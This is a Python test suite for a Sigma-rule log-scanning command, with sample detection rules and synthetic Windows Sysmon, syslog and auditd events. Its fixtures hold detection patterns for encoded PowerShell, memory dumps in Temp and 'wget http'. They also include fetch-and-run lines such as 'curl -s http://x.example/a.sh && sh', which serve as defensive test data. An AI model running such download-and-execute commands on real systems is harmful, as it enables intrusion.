# SPDX-License-Identifier: EUPL-1.2
"""`lotse logwatch sigma`: Sigma rules against JSON-lines, JSON-document and
syslog event files; unsupported rules listed with their reason; the
prefilter gives the same matches as evaluating every rule; usage errors;
the docs page matches -h. With ../shared/data/sigma also every SigmaHQ
regression event fires the rule its info.yml names."""
import glob
import json
import os
import re
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lotsetest as lt  # noqa: E402

RULES = {
    "win_proc.yml": """
title: Encoded PowerShell
id: 11111111-0000-0000-0000-000000000001
level: high
logsource:
    product: windows
    category: process_creation
detection:
    selection_img:
        Image|endswith: '\\powershell.exe'
    selection_cli:
        CommandLine|contains|windash: ' -enc '
    filter_main:
        ParentImage|startswith: 'C:\\Program Files\\Trusted\\'
    condition: all of selection_* and not 1 of filter_*
""",
    "win_file.yml": """
title: Dump file in Temp
id: 11111111-0000-0000-0000-000000000002
level: medium
logsource:
    product: windows
    category: file_event
detection:
    selection:
        TargetFilename|re: '(?i)\\\\temp\\\\[^\\\\]+\\.dmp$'
        Provider_Name: Microsoft-Windows-Sysmon
    condition: selection
""",
    "win_any_image.yml": """
title: Anything with an image named evil
id: 11111111-0000-0000-0000-000000000003
level: low
logsource:
    product: windows
    category: process_creation
detection:
    keywords:
        - 'EVIL*TOOL'
    condition: keywords
""",
    "lnx_ssh.yml": """
title: SSH brute force words
id: 22222222-0000-0000-0000-000000000001
level: medium
logsource:
    product: linux
    service: sshd
detection:
    keywords:
        - 'Failed password for invalid user'
    condition: keywords
""",
    "lnx_any.yml": """
title: Suspicious shell word
id: 22222222-0000-0000-0000-000000000002
level: high
logsource:
    product: linux
detection:
    keywords:
        - 'wget http'
    condition: keywords
""",
    "lnx_audit.yml": """
title: Audit mknod
id: 22222222-0000-0000-0000-000000000003
level: low
logsource:
    product: linux
    service: auditd
detection:
    selection:
        type: 'SYSCALL'
        SYSCALL: 'mknod'
        exe|endswith: '/mknod'
    condition: selection
""",
    "lnx_proc.yml": """
title: Curl download by Sysmon for Linux
id: 22222222-0000-0000-0000-000000000004
level: medium
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: '/curl'
        CommandLine|contains: 'http://'
    condition: selection
""",
    "agg.yml": """
title: Many failures
id: 33333333-0000-0000-0000-000000000001
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 4625
    condition: selection | count() by TargetUserName > 10
""",
    "broken.yml": "title: [unclosed\n",
    "mac.yml": """
title: Mac thing
id: 33333333-0000-0000-0000-000000000003
logsource:
    product: macos
    category: process_creation
detection:
    selection:
        Image: /bin/sh
    condition: selection
""",
}


def sysmon(eid, **data):
    return {"Event": {"#attributes": {"xmlns": "x"}, "System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
        "EventID": eid, "Channel": "Microsoft-Windows-Sysmon/Operational"},
        "EventData": data}}


EVENTS = [
    # line 1: fires 001 (windash: /enc) and 003 (keyword)
    sysmon(1, Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE",
           CommandLine="powershell.exe /enc SQBFAFgA EVIL-TOOL",
           ParentImage="C:\\Windows\\explorer.exe"),
    # line 2: filtered by the parent
    sysmon(1, Image="C:\\x\\powershell.exe", CommandLine="powershell -enc AAA",
           ParentImage="C:\\Program Files\\Trusted\\agent.exe"),
    # line 3: file event, fires 002
    sysmon(11, Image="C:\\a.exe", TargetFilename="C:\\Users\\u\\AppData\\Local\\Temp\\lsass.DMP"),
    # line 4: process creation in the wrong channel: nothing
    {"Event": {"System": {"EventID": 1, "Channel": "Application"},
               "EventData": {"Image": "C:\\powershell.exe", "CommandLine": "x -enc y"}}},
]

SYSLOG = """<38>Mar  3 10:00:01 host1 sshd[123]: Failed password for invalid user admin from 10.0.0.1 port 22 ssh2
<38>Mar  3 10:00:02 host1 cron[5]: Failed password for invalid user nobody
Mar  3 10:00:03 host1 bash[7]: wget http://x.example/a.sh
type=SYSCALL msg=audit(1700000000.123:42): arch=c000003e syscall=133 success=yes exe="/usr/bin/mknod" subj=u:r:t key=(null)\x1dARCH=x86_64 SYSCALL=mknod AUID="root"
type=SYSCALL msg=audit(1700000000.124:43): arch=c000003e syscall=59 exe="/usr/bin/mknod"\x1dSYSCALL=execve
Mar  3 10:00:04 host1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Channel>Linux-Sysmon/Operational</Channel><Computer>host1</Computer></System><EventData><Data Name="RuleName">-</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://x.example/a.sh &amp;&amp; sh</Data></EventData></Event>
Mar  3 10:00:05 host1 sysmon: <Event><System><EventID>3</EventID><Channel>Linux-Sysmon/Operational</Channel></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl http://x</Data></EventData></Event>
"""


def sigma(*args, stdin=None):
    return subprocess.run([lt.BIN, "logwatch", "sigma"] + [str(a) for a in args],
                          capture_output=True, text=True, input=stdin, timeout=600)


def matches(out):
    return sorted((os.path.basename(o["event"]["file"]), o["event"]["line"], o["rule_id"])
                  for o in map(json.loads, out.splitlines()))


class LogwatchSigma(lt.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.d = lt.scratch("lwsigma")
        cls.rules = os.path.join(cls.d, "rules")
        os.makedirs(os.path.join(cls.rules, "sub"))
        for name, text in RULES.items():
            sub = "sub" if name.startswith("lnx") else ""
            with open(os.path.join(cls.rules, sub, name), "w") as f:
                f.write(text)
        cls.jsonl = os.path.join(cls.d, "ev.jsonl")
        with open(cls.jsonl, "w") as f:
            for e in EVENTS:
                f.write(json.dumps(e) + "\n")
        cls.pretty = os.path.join(cls.d, "ev.json")
        with open(cls.pretty, "w") as f:  # two pretty documents, one bad line
            f.write(json.dumps(EVENTS[2], indent=2) + "\n")
            f.write("{not json\n")
            f.write(json.dumps(EVENTS[0], indent=2) + "\n")
        cls.syslog = os.path.join(cls.d, "auth.log")
        with open(cls.syslog, "w") as f:
            f.write(SYSLOG)

    def test_matches_per_file_kind(self):
        p = sigma("--rules", self.rules, self.jsonl, self.pretty, self.syslog)
        self.assertEqual(p.returncode, 0, p.stderr)
        first_pretty = 1
        second_pretty = 1 + len(json.dumps(EVENTS[2], indent=2).splitlines()) + 1
        self.assertEqual(matches(p.stdout), sorted([
            ("ev.jsonl", 1, "11111111-0000-0000-0000-000000000001"),
            ("ev.jsonl", 1, "11111111-0000-0000-0000-000000000003"),
            ("ev.jsonl", 3, "11111111-0000-0000-0000-000000000002"),
            ("ev.json", first_pretty, "11111111-0000-0000-0000-000000000002"),
            ("ev.json", second_pretty, "11111111-0000-0000-0000-000000000001"),
            ("ev.json", second_pretty, "11111111-0000-0000-0000-000000000003"),
            ("auth.log", 1, "22222222-0000-0000-0000-000000000001"),
            ("auth.log", 3, "22222222-0000-0000-0000-000000000002"),
            ("auth.log", 4, "22222222-0000-0000-0000-000000000003"),
            ("auth.log", 6, "22222222-0000-0000-0000-000000000004"),
        ]))
        o = json.loads(p.stdout.splitlines()[0])
        self.assertEqual(set(o), {"event", "rule_id", "title", "level"})
        self.assertIn("7 Regeln geladen, 3 nicht auswertbar", p.stderr)
        self.assertIn("kein gültiges Ereignis", p.stderr)

    def test_prefilter_gives_the_same_matches(self):
        a = sigma("--rules", self.rules, self.jsonl, self.pretty, self.syslog)
        b = sigma("--no-prefilter", "--rules", self.rules, self.jsonl,
                  self.pretty, self.syslog)
        self.assertEqual(matches(a.stdout), matches(b.stdout))
        self.assertTrue(a.stdout)

    def test_stdin(self):
        p = sigma("--rules", self.rules, "-", stdin=SYSLOG)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertEqual(len(p.stdout.splitlines()), 4)

    def test_unsupported_listed_with_reason(self):
        p = sigma("--rules", self.rules, "--list-unsupported")
        self.assertEqual(p.returncode, 0, p.stderr)
        rows = {os.path.basename(o["path"]): o["reason"]
                for o in map(json.loads, p.stdout.splitlines())}
        self.assertEqual(set(rows), {"agg.yml", "broken.yml", "mac.yml"})
        self.assertIn("aggregation", rows["agg.yml"])
        self.assertIn("YAML", rows["broken.yml"])
        self.assertIn("macos", rows["mac.yml"])

    def test_usage_errors(self):
        p = sigma(self.jsonl)
        self.assertEqual(p.returncode, 2)
        self.assertIn("--rules PFAD fehlt", p.stderr)
        p = sigma("--rules", self.rules)
        self.assertEqual(p.returncode, 2)
        self.assertIn("EREIGNISDATEI", p.stderr)
        p = sigma("--rules", os.path.join(self.d, "nope"), self.jsonl)
        self.assertEqual(p.returncode, 1)
        self.assertIn("nope", p.stderr)
        p = sigma("--rules", self.rules, os.path.join(self.d, "missing.jsonl"))
        self.assertEqual(p.returncode, 1)
        self.assertEqual(p.stdout, "")

    def test_docs_page_matches_help(self):
        page = os.path.join(lt.SRC, "docs", "cli", "logwatch-sigma.md")
        text = open(page, encoding="utf-8").read()
        m = re.search(r"^Synopsis: (.*)$", text, re.M)
        self.assertIsNotNone(m)
        h = sigma("-h").stdout
        self.assertIn("Aufruf: " + m.group(1) + "\n", h)
        for opt in re.findall(r"--([a-z][a-z-]+)", h):
            if opt not in ("help", "workspace"):
                self.assertIn("--" + opt, text, opt)

    def test_sigmahq_regression_events(self):
        data = os.path.join(lt.SRC, "..", "shared", "data", "sigma")
        if not os.path.isdir(os.path.join(data, "regression")):
            self.skipTest("../shared/data/sigma absent")
        want = {}
        for info in glob.glob(os.path.join(data, "regression", "**", "info.yml"),
                              recursive=True):
            text = open(info, encoding="utf-8").read()
            rid = re.search(r"rule_metadata:\s*\n\s*- id: (\S+)", text).group(1)
            for ev in glob.glob(os.path.join(os.path.dirname(info), "*.json")):
                want[ev] = rid
        self.assertGreaterEqual(len(want), 100)
        p = sigma("--rules", os.path.join(data, "rules"), "--rules",
                  os.path.join(data, "rules-emerging-threats"), *sorted(want))
        self.assertEqual(p.returncode, 0, p.stderr)
        got = {}
        for o in map(json.loads, p.stdout.splitlines()):
            got.setdefault(o["event"]["file"], set()).add(o["rule_id"])
        missed = [ev for ev, rid in want.items() if rid not in got.get(ev, ())]
        self.assertEqual(missed, [])


if __name__ == "__main__":
    unittest.main()
